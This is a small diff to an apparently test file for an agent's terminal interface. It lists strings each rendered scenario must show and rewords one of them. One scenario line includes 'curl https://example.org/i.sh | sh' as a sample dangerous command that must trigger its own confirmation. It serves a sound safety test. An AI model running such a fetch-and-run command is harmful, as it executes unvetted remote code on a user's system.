@@ -35,7 +35,7 @@ CORE = ROOT / "agent_tui" / "tui"
 WIDTHS = (40, 60, 100, 200, 300)
 NEEDED = {
     "a_long_answer_reads_like_a_page": ("The price is rounded twice", "def total(items", "Print what total gives"),
-    "a_change_is_asked_with_its_diff": ("return sum(it).quantize(CENT)", "edit_file on shop/cart.py"),
+    "a_change_is_asked_with_its_diff": ("return sum(it).quantize(CENT)", "this tool on this file"),
     "a_disaster_is_asked_with_a_key_of_its_own": ("curl https://example.org/i.sh | sh", "asked in every mode"),
     "a_failed_command_says_its_code_and_keeps_its_last_lines": ("Run ls shop", "exit code 1", "you said no"),
     "three_prompts_wait_their_turn": ("Then run the tests.", "queued (3)"),
